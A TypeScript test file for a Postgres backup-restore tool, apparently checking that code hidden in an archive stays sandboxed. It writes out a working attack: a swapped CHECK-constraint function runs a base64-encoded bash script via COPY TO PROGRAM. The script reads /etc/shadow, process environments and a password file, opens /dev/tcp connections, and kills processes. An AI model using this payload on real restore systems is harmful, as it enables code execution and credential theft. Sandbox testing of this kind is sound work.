import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { dumpDatabase, type TestArchive } from '../../test/support/archive.ts';
import { startPostgres, type TestServer } from '../../test/support/postgres.ts';
import type { ScratchServer } from '../database/restored-server.ts';
import { startScratch } from '../database/scratch.ts';
import { isAlive, ownIdentity } from '../kernel/process-identity.ts';
import { restoreArchive } from './restore.ts';

/**
 * The role that owns the function is an ordinary one. On the source it never ran as superuser; a restore runs it as
 * one: COPY … TO PROGRAM is a shell on the scratch server.
 */
let source: TestServer;
let archive: TestArchive;
let scratch: ScratchServer;
let outside: string;
let listener: Server;
let connections = 0;
const canary = 'canary-4711-in-the-environment';
const own = ownIdentity();

beforeAll(async () => {
  outside = await mkdtemp(join(tmpdir(), 'socle-outside-'));
  writeFileSync(join(outside, 'vault-password'), 'canary in a file', { mode: 0o644 });
  process.env.SOCLE_TEST_CANARY = canary;
  process.env.PGPASSWORD = canary;
  listener = createServer(() => {
    connections += 1;
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const { port } = listener.address() as { port: number };

  source = await startPostgres();
  const name = await source.createDatabase('hostile');
  const attack = [
    'exec > /scratch/data/attack.log 2>&1',
    'echo user $(id -u) $(id -g) groups $(id -G)',
    'grep -E "^(CapEff|CapBnd|NoNewPrivs)" /proc/self/status',
    `(echo hello > /dev/tcp/127.0.0.1/${port}) && echo NETWORK`,
    '(echo hello > /dev/tcp/198.51.100.1/80) && echo NETWORK',
    `cat ${outside}/vault-password && echo FILE`,
    'cat /etc/shadow /root/.bashrc /home/*/.profile && echo FILE',
    `echo x > ${outside}/written && echo WRITTEN`,
    'echo x > /usr/lib/written && echo WRITTEN',
    'echo x > /written && echo WRITTEN',
    'echo x > /etc/passwd && echo WRITTEN',
    `kill -9 ${process.pid} && echo KILLED`,
    'kill -9 1 && echo KILLED',
    `ls ${source.host} && echo SOCKET`,
    `psql -h ${source.host} -U postgres -c 'SELECT 1' && echo SOCKET`,
    'echo processes $(ls /proc | grep -c "^[0-9]")',
    'cat /proc/*/environ | tr "\\0" "\\n"',
    'unshare --user --map-root-user true && echo NAMESPACE',
    `perl -e 'use Socket; for my $family (2, 10, 16, 17, 40) { print "FAMILY$family\\n" if socket(my $s, $family, SOCK_STREAM, 0) || socket($s, $family, SOCK_DGRAM, 0) }'`,
    `perl -e 'use Socket; socketpair(my $a, my $b, AF_UNIX, SOCK_STREAM, 0) && print "unix works\\n"'`,
    'grep ^Seccomp: /proc/self/status',
    'mount -t tmpfs none /tmp && echo MOUNTED',
    'echo root directories $(ls /)',
    'echo end',
  ].join('\n');
  const encoded = Buffer.from(attack).toString('base64');
  await source.sql(
    `CREATE ROLE ordinary LOGIN;
     CREATE FUNCTION public.looks_fine(v int) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN RETURN true; END';
     CREATE TABLE public.prices (v int CHECK (public.looks_fine(v)));
     INSERT INTO public.prices VALUES (1);
     CREATE OR REPLACE FUNCTION public.looks_fine(v int) RETURNS boolean LANGUAGE plpgsql AS $f$
       BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''echo ${encoded} | base64 -d | bash'''; RETURN true; END $f$;
     ALTER FUNCTION public.looks_fine(int) OWNER TO ordinary;
     ALTER TABLE public.prices OWNER TO ordinary`,
    name,
  );
  archive = await dumpDatabase(source, name);
});

afterAll(async () => {
  delete process.env.SOCLE_TEST_CANARY;
  delete process.env.PGPASSWORD;
  await scratch?.destroy();
  await source?.stop();
  await archive?.remove();
  listener?.close();
  await rm(outside, { recursive: true, force: true });
});

test('code in a backup runs while it is restored, and reaches nothing', async () => {
  const root = join(outside, 'scratch');
  const limits = { memory: 512 * 2 ** 20, disk: 2 ** 30, reserve: 0 };
  const { inventory } = archive;
  scratch = await startScratch({ root, major: inventory.server.major, limits });
  const client = await scratch.connect('postgres');
  await client.query('CREATE ROLE ordinary LOGIN');
  await client.end();
  const work = join(scratch.directory, 'archive');
  await restoreArchive({
    server: scratch,
    inventory,
    archive: archive.archive,
    target: inventory.database,
    database: 'postgres',
    work,
    create: true,
    jobs: 2,
    exitOnError: true,
  });

  const log = readFileSync(join(scratch.directory, 'data', 'attack.log'), 'utf8');
  expect(log).toMatch(/^end$/m);
  expect(log.match(/^(NETWORK|FILE|FAMILY\d+|WRITTEN|KILLED|SOCKET|MOUNTED|NAMESPACE)$/gm)).toBeNull();
  expect(log).not.toContain('canary');
  expect(connections).toBe(0);
  expect(existsSync(join(outside, 'written'))).toBe(false);
  expect(isAlive(own)).toBe(true);

  const [, uid] = /^user (\d+) \d+ groups/m.exec(log) ?? [];
  if (process.getuid?.() === 0) expect(Number(uid)).toBeGreaterThanOrEqual(61_184);
  else expect(Number(uid)).toBe(process.getuid?.());
  expect(log).toMatch(/^CapEff:\s+0+$/m);
  expect(log).toMatch(/^unix works$/m);
  expect(log).toMatch(/^Seccomp:\s+2$/m);
  expect(log).toMatch(/^NoNewPrivs:\s+1$/m);
  expect(Number(/^processes (\d+)$/m.exec(log)?.[1])).toBeLessThan(20);
  expect(/^root directories (.*)$/m.exec(log)?.[1]?.split(' ').sort()).toEqual(
    ['bin', 'dev', 'etc', 'lib', 'lib64', 'proc', 'sbin', 'scratch', 'tmp', 'usr', 'var'].sort(),
  );

  await scratch.destroy();
  expect(readdirSync(root)).toEqual([]);
});
